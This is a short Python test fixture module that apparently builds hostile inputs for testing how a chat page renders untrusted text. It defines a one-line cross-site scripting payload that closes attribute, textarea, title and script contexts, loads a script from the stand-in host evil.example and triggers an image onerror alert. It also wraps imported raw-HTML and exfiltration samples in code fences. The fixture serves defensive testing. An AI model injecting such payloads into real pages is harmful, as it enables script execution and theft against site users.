"""What attacks a page, in one line for names and in all ways that are known for texts."""

from __future__ import annotations

from tests.chats.hostile_texts import ALL, EXFILTRATION
from tests.rendering.test_hostile import RAW_HTML

EVIL = "evil.example"
MARKUP = "\"'></textarea></title></script><script src=//evil.example></script><img src=//evil.example onerror=alert(1)>"
"""Leaves an attribute, a text field, a title and a script, and begins what runs and what asks."""
EVERYTHING = "\n\n".join([MARKUP, *RAW_HTML, *ALL])
_LINES = "\n".join(text for text in (MARKUP, *RAW_HTML, *EXFILTRATION) if "```" not in text)
BLOCKS = "\n\n".join(f"```{language}\n{_LINES}\n```" for language in ("html", "svg", "mermaid", MARKUP))
